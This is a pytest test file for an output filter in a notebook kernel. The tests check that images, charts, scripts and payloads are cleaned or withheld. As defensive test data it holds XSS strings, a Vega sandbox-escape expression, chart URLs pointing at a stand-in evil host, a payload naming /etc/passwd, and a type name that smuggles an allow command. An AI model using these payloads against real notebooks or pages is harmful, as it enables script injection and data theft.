"""The MIME table, metadata, limits, display ids, replies and errors."""

from __future__ import annotations

import ast
import base64
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from IPython.core.inputtransformer2 import TransformerManager

from agently_kernel.outputs import OutputFilter, OutputLimits, OutputPolicy, Withheld
from agently_kernel.outputs.policy import MIME_TABLE, Treatment

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 32).decode()
GIF = base64.b64encode(b"GIF89a" + b"0" * 32).decode()
WEBP = base64.b64encode(b"RIFF\0\0\0\0WEBP" + b"0" * 32).decode()
JPEG = base64.b64encode(b"\xff\xd8\xff" + b"0" * 32).decode()


def show(filter_: OutputFilter, data: dict[str, Any], metadata: dict[str, Any] | None = None, cell: str = "c") -> Any:
    return filter_.bundle(data, metadata or {}, kind="display_data", cell=cell)


def test_every_honest_form_of_a_result_arrives_unchanged() -> None:
    data = {
        "text/plain": "plain-form",
        "text/html": "<i>rich</i>",
        "text/latex": "$x^2$",
        "image/png": PNG,
        "application/json": {"k": [1, 2], "<script>": "</script>"},
        "text/markdown": "**x**",
    }
    shown = show(OutputFilter(), data)
    assert shown.data == data
    assert (shown.withheld, shown.notice) == ((), "")


@pytest.mark.parametrize(
    ("mime", "data"), [("image/png", PNG), ("image/gif", GIF), ("image/webp", WEBP), ("image/jpeg", JPEG)]
)
def test_bitmaps_are_known_by_their_header(mime: str, data: str) -> None:
    assert show(OutputFilter(), {mime: data}).data == {mime: data}
    assert show(OutputFilter(), {mime: data[:20] + "\n" + data[20:] + "\n"}).data == {mime: data}
    for wrong in (data[4:], "<svg onload=alert(1)>", base64.b64encode(b"<html>").decode(), "", data + '" onerror="x'):
        shown = show(OutputFilter(), {mime: wrong, "text/plain": "x"})
        assert shown.data == {"text/plain": "x"}
        assert shown.withheld[0].reason == f"The data given as {mime} are not such an image."
    other = "image/gif" if mime != "image/gif" else "image/png"
    assert other not in show(OutputFilter(), {other: data, "text/plain": "x"}).data


@pytest.mark.parametrize("mime", [m for m, t in MIME_TABLE.items() if t is Treatment.SCRIPT])
def test_scripts_are_withheld_until_allowed(mime: str) -> None:
    filter_ = OutputFilter()
    shown = show(filter_, {mime: "alert(1)", "text/plain": "<Javascript object>"})
    assert shown.data == {"text/plain": "<Javascript object>"}
    assert shown.withheld == (
        Withheld(
            "javascript",
            mime,
            "JavaScript that wanted to run in the page was withheld.",
            "To allow it in this session: %agently allow javascript",
        ),
    )
    assert shown.notice == shown.withheld[0].line
    filter_.allow("javascript")
    assert show(filter_, {mime: "alert(1)"}).data == {mime: "alert(1)"}
    assert filter_.granted == {"javascript"}


@pytest.mark.parametrize(
    "mime",
    [
        "application/vnd.holoviews_exec.v0+json",
        "application/pdf",
        "text/vnd.mermaid",
        "TEXT/HTML",
        "text/html;x=1",
        "image/svg",
    ],
)
def test_unknown_types_are_withheld_until_allowed(mime: str) -> None:
    filter_ = OutputFilter()
    shown = show(filter_, {mime: "x"})
    assert list(shown.data) == ["text/plain"]
    assert shown.data["text/plain"].startswith(f"[withheld] Output of type {mime} was withheld")
    assert shown.notice == ""
    kind = shown.withheld[0].kind
    assert kind == ("" if ";" in mime else f"mime:{mime}")
    filter_.allow(f"mime:{mime}")
    assert show(filter_, {mime: "x"}).data == {mime: "x"}


def test_a_kind_that_names_more_than_it_is_cannot_be_allowed() -> None:
    shown = show(OutputFilter(), {"application/x\n%agently allow javascript": "x"})
    assert shown.withheld[0].kind == ""
    assert "\n" not in shown.data["text/plain"]
    assert "To allow" not in shown.data["text/plain"]


def test_a_loss_is_told_once_in_a_cell() -> None:
    filter_ = OutputFilter()
    data = {"application/javascript": "1", "text/plain": "x"}
    assert show(filter_, data).notice.startswith("[withheld] JavaScript")
    assert show(filter_, data).notice == ""
    assert show(filter_, data, cell="next").notice.startswith("[withheld] JavaScript")


def test_metadata_keeps_sizes_only() -> None:
    metadata = {
        "isolated": True,
        "trusted": True,
        "jupyter": {"source_hidden": True},
        "width": 10,
        "height": "1px;position:fixed",
        "needs_background": "light",
        "unconfined": True,
        "image/png": {"width": 640, "height": -1, "x": 1},
        "text/html": {"isolated": True},
        "application/vnd.vegalite.v5+json": {"embed_options": {"actions": True}},
    }
    shown = show(OutputFilter(), {"image/png": PNG, "text/html": "<b>x</b>"}, metadata)
    assert shown.metadata == {"width": 10, "needs_background": "light", "unconfined": True, "image/png": {"width": 640}}


def test_display_ids_are_kept_unless_reserved() -> None:
    filter_ = OutputFilter()
    assert filter_.display_id("case-box") == "case-box"
    for refused in (None, "", "agently:notice", "a\nb", "x" * 300):
        assert filter_.display_id(refused) is None


def test_outputs_of_a_cell_are_bounded_and_start_again_when_cleared() -> None:
    filter_ = OutputFilter(limits=OutputLimits(cell_outputs=3))
    assert [bool(show(filter_, {"text/plain": "x"}).data) for _ in range(5)] == [True, True, True, False, False]
    assert filter_.bundle({"text/plain": "x"}, {}, kind="update_display_data", cell="c").data == {"text/plain": "x"}
    assert show(filter_, {"text/plain": "x"}, cell="other").data == {"text/plain": "x"}
    filter_.clear("c")
    assert show(filter_, {"text/plain": "x"}).data == {"text/plain": "x"}


def test_the_first_output_too_many_says_so() -> None:
    filter_ = OutputFilter(limits=OutputLimits(cell_outputs=1))
    notices = [show(filter_, {"text/plain": "x"}).notice for _ in range(3)]
    assert notices == ["", "[withheld] Further outputs of this cell were withheld after 1. Use clear_output().", ""]


@pytest.mark.parametrize("data", [{"text/plain": "x" * 2000}, {f"x/{n}": "" for n in range(99)}])
def test_an_output_that_is_too_much_counts_like_any_other(data: dict[str, str]) -> None:
    filter_ = OutputFilter(limits=OutputLimits(bundle_chars=1000, cell_outputs=3))
    shown = [bool(show(filter_, data).data) for _ in range(5)]
    assert shown == [True, True, True, False, False]


def test_size_of_an_output_is_bounded() -> None:
    filter_ = OutputFilter(limits=OutputLimits(bundle_chars=1000, cell_chars=1500))
    assert show(filter_, {"text/plain": "x" * 2000}).data["text/plain"].startswith("[withheld] An output of 0 MiB")
    assert show(filter_, {"text/plain": "x" * 900}).data == {"text/plain": "x" * 900}
    assert show(filter_, {"text/plain": "x" * 900}).data == {}
    assert show(filter_, {"application/json": {"a": ["x" * 2000]}}, cell="d").withheld != ()


def test_text_of_a_bundle_has_no_terminal_sequences() -> None:
    assert show(OutputFilter(), {"text/plain": "\x1b[31mx\x1b[0m\x1b]0;t\x07"}).data == {
        "text/plain": "\x1b[31mx\x1b[0m"
    }
    assert show(OutputFilter(), {"text/plain": ["a\n", "b"]}).data == {"text/plain": "a\nb"}
    assert show(OutputFilter(), {"text/html": {"not": "text"}}).data == {"text/html": "{'not': 'text'}"}


def test_policies() -> None:
    script = {"text/html": "<p>x</p><script>1</script>"}
    assert (
        show(OutputFilter(OutputPolicy.FRAMED), script).data["text/html"].startswith('<iframe sandbox="allow-scripts"')
    )
    assert show(OutputFilter(OutputPolicy.STATIC), script).data == {"text/html": "<p>x</p>"}
    assert show(OutputFilter(OutputPolicy.TRUSTED), script).data == script
    with pytest.raises(ValueError, match="nonsense"):
        OutputFilter("nonsense")  # type: ignore[arg-type]


def test_errors_are_cleaned_and_bounded() -> None:
    filter_ = OutputFilter(limits=OutputLimits(error_chars=10_000))
    shown = filter_.error("Value\nError", "bad \x1b]0;t\x07value", ["\x1b[31mTraceback\x1b[0m\x1b[2J", "x"])
    assert (shown.ename, shown.evalue, shown.traceback) == (
        "Value Error",
        "bad value",
        ["\x1b[31mTraceback\x1b[0m", "x"],
    )
    long = filter_.error("E", "y" * 50_000, [f"line {n} " + "z" * 500 for n in range(5000)])
    assert len(long.traceback) == 41
    assert long.traceback[20] == "… part of the traceback was left out …"
    assert long.traceback[-1].startswith("line 4999")
    assert sum(map(len, long.traceback)) < 13_000
    assert len(long.evalue) < 10_100


def test_payloads() -> None:
    filter_ = OutputFilter()
    payloads = [
        {
            "source": "page",
            "data": {"text/plain": "help\x1b]0;t\x07", "text/html": "<script>1</script>"},
            "start": 3,
            "x": 1,
        },
        {"source": "set_next_input", "text": "%%agently_exec --provider trusted_local", "replace": True},
        {"source": "ask_exit", "keepkernel": False},
        {"source": "edit_magic", "filename": "/etc/passwd"},
        "nonsense",
    ]
    shown = filter_.payloads(payloads, cell="c")
    page, offered = shown.payloads
    assert page == {"source": "page", "data": {"text/plain": "help"}, "start": 3}
    assert (offered["source"], offered["replace"]) == ("set_next_input", False)
    assert offered["text"].splitlines()[2:] == ["# %%agently_exec --provider trusted_local"]
    assert [w.kind for w in shown.withheld] == ["set_next_input"]
    assert shown.notice.startswith("[withheld] The code that the cell wrote into a new cell is commented out.")
    filter_.allow("set_next_input")
    assert filter_.payloads(payloads[1:2]).payloads == [
        {"source": "set_next_input", "text": "%%agently_exec --provider trusted_local", "replace": False}
    ]


@given(st.text(alphabet="a#%!coding: utf7+-=\\'\"?\r\n\x0b\x0c\x1c\x85\u2028\u2029 \t>"))
def test_a_next_input_that_nobody_allowed_does_nothing_when_it_is_run(code: str) -> None:
    for policy in (OutputPolicy.FRAMED, OutputPolicy.STATIC):
        (payload,) = OutputFilter(policy).payloads([{"source": "set_next_input", "text": code}]).payloads
        assert ast.parse(payload["text"]).body == ast.parse(payload["text"].encode()).body == []
        assert TransformerManager().transform_cell(payload["text"]) == payload["text"]


def test_user_expressions() -> None:
    shown = OutputFilter().user_expressions(
        {
            "a": {
                "status": "ok",
                "data": {"text/plain": "1", "text/html": "<script>1</script><b>x</b>"},
                "metadata": {"y": 1},
            },
            "b": {"status": "error", "ename": "E", "evalue": "v\x1b[2J", "traceback": ["t"]},
            "c": 5,
        }
    )
    assert shown == {
        "a": {"status": "ok", "data": {"text/plain": "1", "text/html": "<b>x</b>"}, "metadata": {}},
        "b": {"status": "error", "ename": "E", "evalue": "v", "traceback": ["t"]},
    }


def test_inspection_is_text() -> None:
    data = {"text/plain": "\x1b[31mdoc\x1b[0m\x1b[2J", "text/html": "<script>1</script>"}
    assert OutputFilter().inspection(data) == {"text/plain": "\x1b[31mdoc\x1b[0m"}
    assert OutputFilter().inspection({}) == {}


def test_a_plain_result_costs_microseconds() -> None:
    filter_ = OutputFilter()
    started = time.process_time()
    for number in range(3000):
        filter_.bundle({"text/plain": "2"}, {}, kind="execute_result", cell=str(number))
    assert (time.process_time() - started) / 3000 < 100e-6  # a cell takes about 5 ms


CHARTS: list[tuple[str, dict[str, Any]]] = [
    (
        "application/vnd.vegalite.v5+json",
        {"mark": "bar", "data": {"values": [{"a": 1, "b": "x"}]}, "encoding": {"x": {"field": "a"}}},
    ),
    (
        "application/vnd.vegalite.v6+json",
        {"params": [{"name": "p", "select": "interval"}], "transform": [{"filter": "datum.a > 3"}]},
    ),
    ("application/vnd.vega.v5+json", {"signals": [{"name": "s", "on": [{"events": "click", "update": "event.item"}]}]}),
    (
        "application/vnd.plotly.v1+json",
        {"data": [{"type": "scatter", "y": [1, 2, None], "text": ["<b>a</b>"]}], "layout": {"title": {"text": "t"}}},
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [{"y": {"dtype": "f8", "bdata": "AAAA"}}], "layout": {}, "config": {"displayModeBar": False}},
    ),
    ("application/geo+json", {"type": "Point", "coordinates": [1.5, 2], "properties": {"name": "a & b"}}),
]


@pytest.mark.parametrize(("mime", "spec"), CHARTS)
def test_honest_charts_are_unchanged(mime: str, spec: dict[str, Any]) -> None:
    shown = show(OutputFilter(), {mime: spec, "text/plain": "chart"})
    assert shown.data == {mime: spec, "text/plain": "chart"}
    assert shown.withheld == ()


@pytest.mark.parametrize(
    "spec",
    [
        {"data": {"url": "/api/contents"}},
        {"data": {"url": "https://evil.example/x.csv"}},
        {"data": [{"url": {"signal": "'https://evil.example/' + s"}}]},
        {"layer": [{"mark": "image", "encoding": {"url": {"field": "u"}}}]},
        {"transform": [{"calculate": "datum.x.constructor.constructor('alert(1)')()", "as": "y"}]},
        {"signals": [{"init": "{valueOf: event.view.eval}"}]},
        {"signals": [{"update": 'event["view"]'}]},
    ],
)
def test_charts_that_load_or_reach_out_are_withheld_until_allowed(spec: dict[str, Any]) -> None:
    mime = "application/vnd.vegalite.v5+json"
    filter_ = OutputFilter()
    shown = show(filter_, {mime: spec, "text/plain": "chart"})
    assert shown.data == {"text/plain": "chart"}
    assert shown.withheld[0].kind == "chart"
    assert shown.notice.endswith("%agently allow chart")
    filter_.allow("chart")
    assert show(filter_, {mime: spec}).data == {mime: spec}


def test_charts_lose_what_the_page_would_execute() -> None:
    vega = {"usermeta": {"embedOptions": {"sourceHeader": "<script>"}}, "__proto__": {"x": 1}, "mark": "bar"}
    assert show(OutputFilter(), {"application/vnd.vega.v5+json": vega}).data == {
        "application/vnd.vega.v5+json": {"mark": "bar"}
    }
    plotly = {
        "data": [{"constructor": 1, "y": [1]}],
        "layout": {
            "images": [{"source": "https://evil.example/?x"}, {"source": "data:image/png;base64,AA"}],
            "mapbox": {"style": "//evil"},
        },
        "config": {
            "modeBarButtonsToAdd": [{"icon": {"svg": "<svg onload=alert(1)>"}}],
            "plotlyServerURL": "https://evil",
            "responsive": True,
        },
        "evil": 1,
    }
    assert show(OutputFilter(), {"application/vnd.plotly.v1+json": plotly}).data["application/vnd.plotly.v1+json"] == {
        "data": [{"y": [1]}],
        "layout": {"images": [{"source": ""}, {"source": "data:image/png;base64,AA"}], "mapbox": {"style": ""}},
        "config": {"responsive": True},
    }
    geo = {"properties": {"<img src=x onerror=alert(1)>": "<script>"}}
    assert show(OutputFilter(), {"application/geo+json": geo}).data["application/geo+json"] == {
        "properties": {"&lt;img src=x onerror=alert(1)&gt;": "&lt;script&gt;"}
    }


def test_names_of_types_are_bounded_like_their_values() -> None:
    filter_ = OutputFilter()
    for number in range(60):
        shown = show(filter_, {f"text/x{kind}_{number}": "" for kind in range(100_000)})
        assert shown.data == {
            "text/plain": "[withheld] An output of 100000 MIME types was withheld: 64 are the most."
        }
    assert filter_._cell("c").announced == set()


def test_what_is_announced_of_names_that_a_guest_makes_up_has_an_end() -> None:
    filter_ = OutputFilter()
    notices = [show(filter_, {"text/plain": "x", f"application/made-up-{n}": "y"}).notice for n in range(300)]
    assert sum(bool(notice) for notice in notices) == OutputLimits().announced_kinds
    assert len(filter_._cell("c").announced) == OutputLimits().announced_kinds


def test_long_names_count_towards_the_size() -> None:
    shown = show(OutputFilter(limits=OutputLimits(bundle_chars=1024**2)), {"text/" + "x" * 1024**2: ""})
    assert "An output of 1 MiB was withheld" in shown.data["text/plain"]
    nested = {"application/json": {"k" * 1024**2: 1}}
    assert "text/plain" in show(OutputFilter(limits=OutputLimits(bundle_chars=1024**2)), nested).data


@pytest.mark.parametrize(
    ("address", "alone", "with_network"),
    [
        ("data:image/png;base64,AAAA", True, True),
        ("https://example.org/a.png", False, True),
        *(
            (address, False, False)
            for address in (
                "/api/contents/x", "api/contents", "logout", "../logout", "?x", "#x", "//example.org/x",
                "\\\\example.org",
                "http://127.0.0.1/x", " /api", "javascript:1", "data:text/html,x", "data:image/svg+xml;base64,AAAA",
            )
        ),
    ],
)
def test_a_figure_loads_nothing_of_the_notebooks_server(address: str, alone: bool, with_network: bool) -> None:
    layout = {"images": [{"source": address}], "mapbox": {"layers": [{"sourceattribution": "<img src=x>"}]}}
    for network, kept in ((False, alone), (True, with_network)):
        filter_ = OutputFilter(network_allowed=network)
        shown = show(filter_, {"application/vnd.plotly.v1+json": {"data": [], "layout": layout}}).data
        cleaned = shown["application/vnd.plotly.v1+json"]["layout"]
        assert cleaned["images"][0]["source"] == (address if kept else "")
        assert "<" not in cleaned["mapbox"]["layers"][0]["sourceattribution"]


@pytest.mark.parametrize(
    ("style", "kept"), [("open-street-map", True), ("/api/contents", False), ("https://x/y", False), ("a.json", False)]
)
def test_a_map_names_its_style_and_no_address(style: str, kept: bool) -> None:
    figure = {"data": [], "layout": {"mapbox": {"style": style}}}
    shown = show(OutputFilter(), {"application/vnd.plotly.v1+json": figure}).data["application/vnd.plotly.v1+json"]
    assert shown["layout"]["mapbox"]["style"] == (style if kept else "")
